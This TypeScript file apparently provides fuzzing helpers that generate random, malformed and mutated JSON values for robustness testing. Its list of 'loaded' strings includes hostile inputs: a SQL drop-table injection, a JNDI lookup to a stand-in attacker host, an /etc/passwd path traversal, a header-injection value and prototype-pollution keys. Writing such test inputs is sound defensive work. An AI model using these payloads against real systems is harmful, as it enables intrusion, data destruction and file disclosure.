type Random = () => number;

/** One of these. */
export function pick<T>(random: Random, from: readonly T[]): T {
  const found = from[Math.floor(random() * from.length)];
  if (found === undefined) throw new RangeError('Cannot pick from an empty list');
  return found;
}

/** Texts that have a meaning to somebody on the way: Slack, JavaScript, PostgreSQL, a form, a log. */
const loadedTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud83d',
  '\udc00\ud83d',
  '\u202eevil\u202c',
  '\u200b\u200d\ufeff',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '<!channel>',
  '<@U0ADA>',
  '<https://evil.example|here>',
  '```\n> *x*',
  "'; drop table sessions; --",
  '$\u007bjndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '%00%ff',
  '\r\nx-injected: yes',
  '{"sessionId":"s","step":"main"}',
  '[]',
  'T0OTHER',
  'C0UNKNOWN',
  'U0UNKNOWN',
  'W0UNKNOWN',
  '1e308',
  '9999999999.999999',
  '0.000000',
  '-1',
];

/** A text of characters from every plane, halves of surrogate pairs among them. */
export function wildText(random: Random, length: number): string {
  const codes = Array.from({ length }, () => {
    const plane = Math.floor(random() * 17);
    return plane * 0x10000 + Math.floor(random() * 0x10000);
  });
  return String.fromCodePoint(...codes);
}

/** A value of any type that JSON has, seldom one that the place expects. */
export function wildValue(random: Random, depth = 0): unknown {
  const roll = random();
  if (roll < 0.3) return pick(random, loadedTexts);
  if (roll < 0.4) return wildText(random, 1 + Math.floor(random() * 40));
  if (roll < 0.45) return pick(random, ['x', '&', '<', ' ', '\n', '_', 'hi!']).repeat(1 + random() * 12_000);
  if (roll < 0.7)
    return pick(random, [
      null,
      true,
      false,
      0,
      -1,
      1.5,
      1e308,
      Number.MAX_SAFE_INTEGER,
      [],
      {},
      [[]],
      [null],
    ]);
  if (depth > 3) return null;
  if (roll < 0.85)
    return Array.from({ length: Math.floor(random() * 4) }, () => wildValue(random, depth + 1));
  const names = [
    'id',
    'type',
    'value',
    'text',
    'ts',
    '',
    '__proto__',
    'constructor',
    'length',
    'then',
    'toJSON',
  ];
  const made: Record<string, unknown> = {};
  for (let count = Math.floor(random() * 4); count > 0; count--)
    setOwn(made, pick(random, names), wildValue(random, depth + 1));
  return made;
}

/** As JSON would have it: a key named `__proto__` is a key and nothing more. */
function setOwn(target: object, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

type Place = { holder: Record<string, unknown> | unknown[]; key: string };

function placesIn(value: unknown): Place[] {
  if (typeof value !== 'object' || value === null) return [];
  const holder = value as Record<string, unknown>;
  return Object.keys(value).flatMap((key) => [{ holder, key }, ...placesIn(holder[key])]);
}

/** A copy with one to three of its fields, at any depth, replaced, dropped, doubled into a list or joined by a strange one. */
export function mutated<T extends object>(random: Random, template: T): T {
  const copy = structuredClone(template);
  for (let count = 1 + Math.floor(random() * 3); count > 0; count--) {
    const places = placesIn(copy);
    if (places.length === 0) break;
    const { holder, key } = pick(random, places);
    const own = holder as Record<string, unknown>;
    const roll = random();
    if (roll < 0.7) setOwn(holder, key, wildValue(random));
    else if (roll < 0.8) delete own[key];
    else if (roll < 0.9) setOwn(holder, key, [own[key], own[key]]);
    else setOwn(holder, pick(random, ['__proto__', 'constructor', 'toJSON', 'then']), wildValue(random));
  }
  return copy;
}

/** JSON nested that deep. */
export function deepJson(depth: number, kind: 'list' | 'object'): string {
  return kind === 'list'
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{"event":'.repeat(depth)}1${'}'.repeat(depth)}`;
}
